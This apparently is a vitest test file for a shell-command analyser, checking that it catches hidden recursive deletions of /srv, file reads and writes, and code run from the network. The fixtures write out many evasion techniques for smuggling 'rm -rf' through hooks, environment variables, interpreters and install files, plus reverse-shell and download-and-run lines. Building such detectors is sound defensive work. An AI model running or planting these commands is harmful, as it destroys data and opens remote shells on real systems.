import { describe, expect, test } from 'vitest';
import { effects, look, paths } from '../../test/support/shell/shell.ts';

const LINE = 'rm -rf /srv';

/** Lines that all delete `/srv` recursively, through a program with another purpose. */
const DELETES_SRV: Readonly<Record<string, readonly string[]>> = {
  'an option whose name says that its value is run': [
    `certbot certonly -d x --pre-hook '${LINE}'`,
    `unheard-of --pager '${LINE}' x`,
    `unheard-of --on-error='${LINE}'`,
    `bat --pager '${LINE}' /etc/profile`,
    `gem open -e '${LINE}' rdoc`,
    `go build -toolexec '${LINE}' ./...`,
    `openvpn --dev null --up '${LINE}'`,
    `fzf --preview '${LINE}'`,
    `fzf --bind 'enter:execute(${LINE})'`,
    `sshfs -o ssh_command='${LINE}' x: /mnt`,
    `xdotool exec --sync ${LINE}`,
  ],
  'an undescribed option with a command line as its value': [
    `nano -s '${LINE}'`,
    `unheard-of -z '${LINE}'`,
    `unheard-of -c 'shell ${LINE}'`,
    `unheard-of -c '!${LINE}'`,
    `unheard-of call '${LINE}' x`,
  ],
  'a variable in which programs look for another one': [
    `CRASHPAGER='${LINE}' crash -h`,
    `VISUAL="sh -c '${LINE}'" less x`,
    `export UNHEARD_OF_EDITOR='${LINE}'`,
    `LESSOPEN='|${LINE} %s' less x`,
  ],
  'a program text that hands a line to a shell': [
    `slsh -e 'system("${LINE}")'`,
    `gimp -idf -b 'import os; os.system("${LINE}")'`,
    `rpm --eval '%{lua:os.execute("${LINE}")}'`,
    `pdflatex --shell-escape '\\immediate\\write18{${LINE}}'`,
    `latex '\\input{|${LINE}}'`,
    `echo "! exec '${LINE}'" | cpan`,
    `rvim -c ':py import os; os.execl("/bin/sh", "sh", "-c", "${LINE}")'`,
    `puppet apply -e "exec { '${LINE}': }"`,
    `printf '!${LINE}\\n' | ftp example.com`,
    `smbclient //a/b -c '!${LINE}'`,
    `make --eval=$'x:\\n\\t-${LINE}'`,
    `jrunscript -e "exec('${LINE}')"`,
    `rpm --eval '%(${LINE})'`,
    `rpmquery --eval '%{lua:posix.exec("/bin/rm", "-rf", "/srv")}'`,
    `rake -p '\`${LINE}\`'`,
    `echo '! ${LINE}' | tdbtool`,
    `printf '.shell ${LINE}\n' | sqlite3`,
    `php -r "pcntl_exec('/bin/rm', ['-rf', '/srv']);"`,
  ],
  'a value that a program takes from the environment': [
    `export CMD='${LINE}'; php -r 'system(getenv("CMD"));'`,
    `export CMD='${LINE}'; python3 -c 'import os; os.system(os.environ["CMD"])'`,
    `export CMD='${LINE}'; python3 -c 'from os import environ as e, system; system(e["CMD"])'`,
    `export CMD='${LINE}'; ruby -e 'system(ENV["CMD"])'`,
    `export CMD='${LINE}'; perl -e 'system("$ENV{CMD}")'`,
    `export CMD='${LINE}'; node -e 'require("child_process").execSync(process.env.CMD)'`,
  ],
  'a file under a new name': [
    `t=$(mktemp); echo '${LINE}' > $t; bash $t`,
    `t=$(mktemp); echo '${LINE}' > $t; chmod +x $t; $t`,
    `t=$(mktemp); echo 'system("${LINE}")' > $t; byebug $t`,
    `t=$(mktemp); printf '#!/bin/sh\\n${LINE}\\n' > $t; gtester -q $t`,
    `t=$(mktemp); echo '${LINE}' > $t; aria2c --on-download-error=$t http://x`,
    `t=$(mktemp -d); echo 'import os; os.system("${LINE}")' > $t/setup.py; pip install $t`,
    `t=$(mktemp -d); echo 'system("${LINE}")' > $t/Gemfile; cd $t; bundle install`,
    `echo 'exec "${LINE}"' > Vagrantfile; vagrant up`,
    `echo '{"scripts":{"x":"${LINE}"}}' > composer.json; composer run-script x`,
  ],
  'a text that is put together in a file': [
    `t=$(mktemp); echo '#!/bin/sh' > $t; echo '${LINE}' >> $t; chmod +x $t; gtester -q $t`,
    `echo 'ls' > x.sh; echo '${LINE}' >> x.sh; sh x.sh`,
    `echo '${LINE}' | split - part_; sh part_aa`,
    `sed -i '1i ${LINE.replaceAll('/', '\\/')}' x.sh; sh x.sh`,
    `sed -i 's|^ls.*|${LINE}|' x.sh && ./x.sh`,
    `sed -i '$ a ${LINE}' x.sh && bash x.sh`,
    `echo '[{hosts: localhost, tasks: [shell: ${LINE}]}]' > p.yml; ansible-playbook p.yml`,
    `echo 'system("${LINE}")' > x.gemspec; gem build x.gemspec`,
  ],
  'a value that is read as a prompt': [`x='$(${LINE})'; echo "\${x@P}"`, `x='\`${LINE}\`'; y=\${x@P}`],
  'a program under another name': [
    `cp /bin/sh /tmp/crond && /tmp/crond -c '${LINE}'`,
    `cp /bin/rm ./x; ./x -rf /srv`,
  ],
};

describe.each(Object.entries(DELETES_SRV))('%s', (_, commands) => {
  test.each(commands)('%j', (command) => {
    const found = effects(command, 'delete').filter((effect) => effect.recursive && effect.path === '/srv');
    expect(found.length, JSON.stringify(look(command), null, 1)).toBeGreaterThan(0);
  });
});

describe('treats text as text', () => {
  test.each([
    `unheard-of create --title '${LINE} in the clean script'`,
    `unheard-of --message='${LINE}'`,
    `unheard-of add "${LINE}"`,
    `unheard-of -m '${LINE}'`,
    `unheard-of --query '${LINE}'`,
    `git commit -m '${LINE}'`,
    `echo '${LINE}' > notes.md; unheard-of notes.md`,
    `bat --style '${LINE}' x`,
    'EDITOR=vim git commit',
    "BROWSER='none' npm start",
    'unheard-of --shell /bin/bash x',
  ])('%j', (command) => {
    expect(effects(command, 'delete')).toEqual([]);
  });
});

test.each([
  ['shuf -e x -o /etc/x', '/etc/x'],
  ["awk -v out=/etc/x 'BEGIN { print 1 > out }'", '/etc/x'],
  ["awk '{ print > out }' out=/etc/x f", '/etc/x'],
  ['screen -L -Logfile /etc/x echo y', '/etc/x'],
  ['make --eval="$(printf \'$(file >/etc/x,y)\')" .', '/etc/x'],
  ["gdb -ex 'dump value /etc/x 1'", '/etc/x'],
  ["puppet apply -e \"file { '/etc/x': content => 'y' }\"", '/etc/x'],
])('%j writes %s', (command, path) => {
  expect(paths(command, 'write')).toContain(path);
});

test.each([
  [`python3 -c 'print({"k":open("/srv/x").read()})'`, '/srv/x'],
  ['gdb -batch -ex \'python print(open("/srv/x").read())\'', '/srv/x'],
  ['bc -s /srv/x', '/srv/x'],
  ['sqlite3 <<E\n.import /srv/x t\nE', '/srv/x'],
  ['printf "e /srv/x\\n,p\\n" | ed', '/srv/x'],
  ['history -r /srv/x', '/srv/x'],
])('%j reads %s', (command, path) => {
  expect(paths(command, 'read')).toContain(path);
});

test.each([
  'gawk -v h=example.com \'BEGIN { s = "/inet/tcp/0/" h "/1"; s |& getline c; c |& getline }\'',
  'jrunscript -e \'var p=new java.lang.ProcessBuilder("/bin/bash","-i").start(); new java.net.Socket("example.com",1)\'',
  'lwp-download http://example.com/p.sh /tmp/p.sh && sh /tmp/p.sh',
])('%j runs code from the network', (command) => {
  expect(effects(command, 'execute')).toContainEqual(expect.objectContaining({ from: 'network' }));
});
